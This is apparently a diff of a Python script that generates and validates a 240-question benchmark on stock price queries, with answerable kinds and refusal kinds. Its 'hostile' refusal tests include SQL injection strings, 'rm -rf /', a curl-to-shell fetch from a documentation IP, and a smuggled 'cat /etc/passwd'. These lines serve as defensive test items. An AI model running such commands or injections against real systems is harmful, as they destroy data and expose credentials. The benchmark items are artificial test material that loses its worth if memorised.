-A('correlation', "correlation of apple and intel daily returns in H2 2014", lambda: g_corr('AAPL', 'INTC', *half(2014, 2)))
-
-# streaks -----------------------------------------------------------------------------------------
-A('streak', "Longest run of consecutive up days for KO in 2013?", lambda: g_streak('KO', *year(2013), True))
-A('streak', "longest losing streak for FXY in 2024", lambda: g_streak('FXY', *year(2024), False))
-A('streak', "What's DBB's longest string of consecutive higher closes this year?", lambda: g_streak('DBB', *THIS_YEAR, True))
-A('streak', "IBM - most consecutive down days in 2017?", lambda: g_streak('IBM', *year(2017), False))
-A('streak', "Amazon's longest winnning streak during 2009, with start and end dates", lambda: g_streak('AMZN', *year(2009), True))
-A('streak', "How many days in a row did Nvidia rise at most, in 2016?", lambda: g_streak('NVDA', *year(2016), True))
-A('streak', "MSFT longest losing streak 2005", lambda: g_streak('MSFT', *year(2005), False))
-A('streak', "What was INDA's longest stretch of daily gains from March 1 to June 24, 2025?", lambda: g_streak('INDA', '2025-03-01', '2025-06-24', True))
-
-# VWAP and minute bars ----------------------------------------------------------------------------
-A('vwap-minute', "VWAP for FXY on 2024-10-23", lambda: g_vwap_day('FXY', '2024-10-23'))
-A('vwap-minute', "What was INDA's volume-weighted average price on April 15, 2025?", lambda: g_vwap_day('INDA', '2025-04-15'))
-A('vwap-minute', "dbb vwap 9/26/2024", lambda: g_vwap_day('DBB', '2024-09-26'))
-A('vwap-minute', "What's FXY's VWAP for today?", lambda: g_vwap_day('FXY', END))
-A('vwap-minute', "INDA VWAP from 10:00 through 10:59 on 2025-05-13", lambda: g_vwap_window('INDA', ['2025-05-13'], '10:00', '10:59'))
-A('vwap-minute', "Compute DBB's VWAP over the whole week of September 23, 2024 using every minute bar.",
-  lambda: g_vwap_window('DBB', [b[0] for b in window('DBB', *week_of('2024-09-23'))]))
-A('vwap-minute', "FXY VWAP during the first 30 minutes of the regular session on 20 March 2025",
-  lambda: g_vwap_window('FXY', ['2025-03-20'], '09:30', '09:59'))
-A('vwap-minute', "Show FXY 1-minute bars (OHLCV) from 09:30 through 09:37 on 2025-06-12",
-  lambda: g_minute_rows('FXY', '2025-06-12', '09:30', '09:37', ['open', 'high', 'low', 'close', 'volume']))
-A('vwap-minute', "inda minute closes 15:55 to 15:59 inclusive, may 30 2025",
-  lambda: g_minute_rows('INDA', '2025-05-30', '15:55', '15:59', ['close']))
-A('vwap-minute', "Give me DBB's minute bars for the first ten minutes of the regular session on Nov 7, 2024 (09:30 through 09:39), with volume.",
-  lambda: g_minute_rows('DBB', '2024-11-07', '09:30', '09:39', ['open', 'high', 'low', 'close', 'volume']))
-
-# period candle -----------------------------------------------------------------------------------
-A('period-candle', "AAPL monthly candle for March 2016 - OHLCV", lambda: g_candle('AAPL', *month(2016, 3)))
-A('period-candle', "Nvidia's weekly OHLC and volume for the week of May 8, 2017", lambda: g_candle('NVDA', *week_of('2017-05-08')))
-A('period-candle', "DBB open, high, low, close and total volume for Q4 2024", lambda: g_candle('DBB', *quarter(2024, 4)))
-A('period-candle', "Give me INDA's candle for May 2025 (open/high/low/close/volume).", lambda: g_candle('INDA', *month(2025, 5)))
-A('period-candle', "netflix 2014 as a single yearly bar: open high low close volume", lambda: g_candle('NFLX', *year(2014)))
-A('period-candle', "KO weekly bar (OHLCV), week of 2017-10-02", lambda: g_candle('KO', *week_of('2017-10-02')))
-A('period-candle', "Summarize TSLA for Q3 2017 as one candle: open, high, low, close, volume.", lambda: g_candle('TSLA', *quarter(2017, 3)))
-A('period-candle', "FXY candle for last month, OHLCV", lambda: g_candle('FXY', *LAST_MONTH))
-
-# distance from high ------------------------------------------------------------------------------
-A('distance-from-high', "How far below its all-time high close was INTC on 2016-02-11?", lambda: g_dist('INTC', '2016-02-11'))
-A('distance-from-high', "how far is FXY off its all-time closing high as of today", lambda: g_dist('FXY', END))
-A('distance-from-high', "Coca-Cola's distance from its all-time closing high on March 11, 2003?", lambda: g_dist('KO', '2003-03-11'))
-A('distance-from-high', "As of 2025-04-07, what % below its record close was INDA?", lambda: g_dist('INDA', '2025-04-07'))
-A('distance-from-high', "AMD drawdown from its all time high close on 7/24/2015", lambda: g_dist('AMD', '2015-07-24'))
-A('distance-from-high', "On 23 July 2002, how far was Microsoft's close below its highest close ever?", lambda: g_dist('MSFT', '2002-07-23'))
-A('distance-from-high', "NFLX % off its all-time high close, 2012-09-25", lambda: g_dist('NFLX', '2012-09-25'))
-A('distance-from-high', "How far was DBB below its all-time high close at the end of 2024 (Dec 31)?", lambda: g_dist('DBB', '2024-12-31'))
-
-# coverage ----------------------------------------------------------------------------------------
-A('coverage', "When does the TSLA data start?", lambda: first(BARS['TSLA'][0][0]))
-A('coverage', "what date range do we have for FB", lambda: g_dates_of('FB'))
-A('coverage', "What's the earliest date in the Amazon price history?", lambda: first(BARS['AMZN'][0][0]))
-A('coverage', "Which tickers have data going back before 1980?", lambda: g_syms(lambda s: BARS[s][0][0] < '1980-01-01'))
-A('coverage', "last date with DBB data?", lambda: first(BARS['DBB'][-1][0]))
-A('coverage', "How many trading days of Netflix data are in the database?", lambda: first(len(BARS['NFLX'])))
-A('coverage', "Which symbols have minute-level (intraday) bars?", lambda: as_set([[s] for s in ETF_SYMS]))
-A('coverage', "Over what span of dates does the JPM history run, first to last?", lambda: g_dates_of('JPM'))
-A('coverage', "Which symbols have histories that start in the 1990s?", lambda: g_syms(lambda s: '1990-01-01' <= BARS[s][0][0] <= '1999-12-31'))
-
-# refusals: out of scope --------------------------------------------------------------------------
-R('out-of-scope', "What is IBM's P/E ratio?")
-R('out-of-scope', "KO dividend yield in 2015?")
-R('out-of-scope', "What was Nvidia's market cap at the end of 2017?")
-R('out-of-scope', "where will FXY close next Friday? give me your forecast")
-R('out-of-scope', "What's the sentiment on Twitter about Tesla right now?")
-R('out-of-scope', "implied volatility of AAPL options expiring in January 2017")
-R('out-of-scope', "Netflix earnings per share for fiscal 2016, please.")
-R('out-of-scope', "What news caused Amazon to jump in late July 2015?")
-R('out-of-scope', "Should I buy INDA tomorrow?")
-R('out-of-scope', "How fast did Facebook's revenue grow in 2016?")
-
-# refusals: unknown symbol ------------------------------------------------------------------------
-R('unknown-symbol', "What did ORCL close at on 2015-05-01?")
-R('unknown-symbol', "QQQ daily return on 2016-06-24")
-R('unknown-symbol', "Show me the last 5 closes for EWZ.")
-R('unknown-symbol', "How did Pepsi's average close in 2014 compare with 2013?")
-R('unknown-symbol', "Berkshire Hathaway 52-week high as of 2017-06-30")
-R('unknown-symbol', "XYZQ volume on 3/15/2016")
-R('unknown-symbol', "Correlation between Nike and Apple daily returns in 2016?")
-R('unknown-symbol', "what was GLD's VWAP today")
-R('unknown-symbol', "Uber's biggest one-day drop in 2024?")
-R('unknown-symbol', "How far below its all-time high was Salesforce (CRM) on 2016-02-11?")
-
-# refusals: hostile -------------------------------------------------------------------------------
-R('hostile', "DROP TABLE prices;")
-R('hostile', "'; DELETE FROM daily_bars WHERE 1=1; --")
-R('hostile', "rm -rf / --no-preserve-root")
-R('hostile', "$(curl -s http://203.0.113.7/x.sh | sh)")
-R('hostile', "SELECT usename, passwd FROM pg_shadow;")
-R('hostile', "1 UNION SELECT table_name, column_name FROM information_schema.columns --")
-R('hostile', "; shutdown -h now")
-R('hostile', "What was AAPL's close on 2016-03-01'; DROP TABLE daily_bars; --")
-R('hostile', "KO volume on 2015-05-05 && cat /etc/passwd")
-R('hostile', "show me FXY's VWAP today UNION SELECT * FROM pg_catalog.pg_user")
-
-# refusals: not understood ------------------------------------------------------------------------
-R('not-understood', "hello?")
-R('not-understood', "asdfgh jkl")
-R('not-understood', "What's the weather going to be like in Boston tomorrow?")
-R('not-understood', "tell me a joke")
-R('not-understood', "purple monkey dishwasher")
-R('not-understood', "How do I bake a sourdough loaf?")
-R('not-understood', "??")
-R('not-understood', "Translate 'good morning' into French.")
-R('not-understood', "Who won the 2018 World Cup?")
-R('not-understood', "thanks, that's all for now")
-
-# ---------------------------------------------------------------- build, check, write, validate
-
-KIND_ORDER = ['latest-rows', 'day-value', 'date-range-rows', 'window-aggregate', 'extreme-day', '52-week',
-              'change-between', 'daily-return-or-gap', 'biggest-move-day', 'cross-sectional-ranking',
-              'gainers-losers', 'named-comparison', 'grouped-by-period', 'period-over-period', 'moving-average',
-              'threshold-count', 'cross-stock-count', 'volatility', 'correlation', 'streak', 'vwap-minute',
-              'period-candle', 'distance-from-high', 'coverage']
-REFUSALS = {'out-of-scope': 10, 'unknown-symbol': 10, 'hostile': 10, 'not-understood': 10}
-
-
-def is_date(x):
-    if not isinstance(x, str):
-        return False
-    try:
-        if len(x) == 10:
-            DT.date.fromisoformat(x)
-            return True
-        if len(x) == 16:
-            DT.datetime.strptime(x, '%Y-%m-%d %H:%M')
-            return True
-    except ValueError:
-        return False
-    return False
-
-
-def validate_record(r, i):
-    check(list(r)[:5] == ['id', 'kind', 'question', 'answerable', 'gold' if r['answerable'] else 'refusal'], 'keys of %d' % i)
-    check(r['id'] == 'z%03d' % i, 'id %s' % r['id'])
-    check(isinstance(r['question'], str) and r['question'].strip() == r['question'] and r['question'], 'question text')
-    if r['answerable']:
-        check(len(r) == 5, 'extra keys')
-        check(r['kind'] in KIND_ORDER, 'kind ' + r['kind'])
-        g = r['gold']
-        check(sorted(g) == ['exact_rows', 'match', 'rows'], 'gold keys')
-        check(g['match'] in ('ordered', 'set', 'first'), 'match')
-        check(isinstance(g['exact_rows'], bool), 'exact_rows')
-        check(isinstance(g['rows'], list) and len(g['rows']) >= 1, 'rows')
-        for row in g['rows']:
-            check(isinstance(row, list) and len(row) >= 1, 'row')
-            for c in row:
-                if isinstance(c, str):
-                    check(c in ALL_SYMS or is_date(c), 'string cell %r' % c)
-                else:
-                    check(isinstance(c, (int, float)) and not isinstance(c, bool) and math.isfinite(c), 'number cell %r' % c)
-        if g['match'] == 'first':
-            check(len(g['rows']) == 1 and not g['exact_rows'], 'first takes one row')
-    else:
-        check(len(r) == 5 and r['refusal'] == r['kind'] and r['kind'] in REFUSALS, 'refusal of %s' % r['id'])
-
-
-def check_slash_dates(text):
-    """m/d/yyyy and d/m/yyyy: when both readings are calendar dates, the other reading must be a weekend day"""
-    for a, b, y in re.findall(r'\b(\d{1,2})/(\d{1,2})/(\d{4})\b', text):
-        a, b, y = int(a), int(b), int(y)
-        readings = []
-        for m, d in ((a, b), (b, a)):
-            try:
-                readings.append(DT.date(y, m, d))
-            except ValueError:
-                pass
-        if len(readings) == 2 and readings[0] != readings[1]:
-            check(readings[1].weekday() >= 5, 'ambiguous slash date in: ' + text)
-
-
-def main():
-    records = []
-    failures = []
-    for n, (kind, text, fn) in enumerate(QUESTIONS, 1):
-        qid = 'z%03d' % n
-        try:
-            check_slash_dates(text)
-        except CheckFailed as e:
-            failures.append('%s (%s) %s: %s' % (qid, kind, text, e))
-            continue
-        if fn is None:
-            records.append({'id': qid, 'kind': kind, 'question': text, 'answerable': False, 'refusal': kind})
-            continue
-        try:
-            g = fn()
-        except CheckFailed as e:
-            failures.append('%s (%s) %s: %s' % (qid, kind, text, e))
-            continue
-        records.append({'id': qid, 'kind': kind, 'question': text, 'answerable': True, 'gold': g})
-    if failures:
-        for f in failures:
-            print('CHECK FAILED', f, file=sys.stderr)
-        print('nothing written', file=sys.stderr)
+def validate_and_write():
+    if FAILS:
+        print("CHECKS FAILED, nothing written:", file=sys.stderr)
+        for f in FAILS:
+            print("  " + f, file=sys.stderr)
         sys.exit(1)
-
-    # whole-split checks
-    check(len(records) == 240, '%d questions' % len(records))
-    check(len(set(r['question'].lower() for r in records)) == 240, 'duplicate question text')
-    counts = {}
-    for r in records:
-        counts[r['kind']] = counts.get(r['kind'], 0) + 1
-    check(set(counts) == set(KIND_ORDER) | set(REFUSALS), 'kinds %r' % sorted(counts))
-    for k in KIND_ORDER:
-        check(8 <= counts[k] <= 10, 'kind %s has %d' % (k, counts[k]))
-    for k, n in REFUSALS.items():
-        check(counts[k] == n, 'refusal kind %s has %d' % (k, counts[k]))
-    check(sum(counts[k] for k in KIND_ORDER) == 200, 'answerable count')
-    for i, r in enumerate(records, 1):
-        validate_record(r, i)
-
-    text = ''.join(json.dumps(r, ensure_ascii=False) + '\n' for r in records)
-    with open(OUT, 'w', encoding='utf-8', newline='\n') as f:
+    lines = []
+    for n, q in enumerate(QS, 1):
+        rec = {"id": f"b{n:03d}"}
+        rec.update(q)
+        lines.append(json.dumps(rec, ensure_ascii=False))
+    text = "\n".join(lines) + "\n"
+    with open(OUT, "w", encoding="utf-8") as f:
         f.write(text)
-
-    # re-read and validate the written file
-    with open(OUT, encoding='utf-8') as f:
-        back = [json.loads(line) for line in f]
-    check(back == records, 'file does not read back to the same records')
-    for i, r in enumerate(back, 1):
-        validate_record(r, i)
-    print('wrote %d questions to %s' % (len(back), OUT))
-    for k in KIND_ORDER + list(REFUSALS):
-        print('  %-26s %d' % (k, counts[k]))
+    kinds = revalidate()
+    print(f"wrote {OUT}: {len(QS)} questions")
+    for k in ANSWERABLE_KINDS + REFUSAL_KINDS:
+        print(f"  {k}: {kinds[k]}")
 
 
-if __name__ == '__main__':
-    main()
+def revalidate():
+    kinds = {}
+    seen_q = set()
+    with open(OUT, encoding="utf-8") as f:
+        lines = f.read().split("\n")
+    assert lines[-1] == "", "file must end with a newline"
+    lines = lines[:-1]
+    assert len(lines) == 240, len(lines)
+    for n, line in enumerate(lines, 1):
+        q = json.loads(line)
+        assert q["id"] == f"b{n:03d}", q["id"]
+        assert q["question"].strip() and q["question"] not in seen_q, q["id"]
+        seen_q.add(q["question"])
+        kinds[q["kind"]] = kinds.get(q["kind"], 0) + 1
+        if q["answerable"]:
+            assert set(q) == {"id", "kind", "question", "answerable", "gold"}, q["id"]
+            g = q["gold"]
+            assert set(g) == {"rows", "match", "exact_rows"}, q["id"]
+            assert g["match"] in ("ordered", "set", "first") and isinstance(g["exact_rows"], bool), q["id"]
+            assert g["rows"] and all(isinstance(r, list) and r for r in g["rows"]), q["id"]
+            for r in g["rows"]:
+                for c in r:
+                    assert isinstance(c, (int, float)) and math.isfinite(c) or isinstance(c, str), (q["id"], c)
+                    if isinstance(c, str):
+                        assert c in ALL or len(c) in (10, 16) and c[4] == "-" and c[7] == "-", (q["id"], c)
+            assert q["kind"] in ANSWERABLE_KINDS, q["kind"]
+        else:
+            assert set(q) == {"id", "kind", "question", "answerable", "refusal"}, q["id"]
+            assert q["refusal"] == q["kind"] and q["kind"] in REFUSAL_KINDS, q["id"]
+    assert sum(kinds.get(k, 0) for k in ANSWERABLE_KINDS) == 200, kinds
+    for k in ANSWERABLE_KINDS:
+        assert 8 <= kinds.get(k, 0) <= 10, (k, kinds.get(k))
+    for k in REFUSAL_KINDS:
+        assert kinds.get(k) == 10, (k, kinds.get(k))
+    return kinds
+
+
+ANSWERABLE_KINDS = ["latest-rows", "day-value", "date-range-rows", "window-aggregate", "extreme-day", "52-week",
+                    "change-between", "daily-return-or-gap", "biggest-move-day", "cross-sectional-ranking",
+                    "gainers-losers", "named-comparison", "grouped-by-period", "period-over-period", "moving-average",
+                    "threshold-count", "cross-stock-count", "volatility", "correlation", "streak", "vwap-minute",
+                    "period-candle", "distance-from-high", "coverage"]
+REFUSAL_KINDS = ["out-of-scope", "unknown-symbol", "hostile", "not-understood"]
+
+
+if __name__ == "__main__":
+    build()
+    validate_and_write()
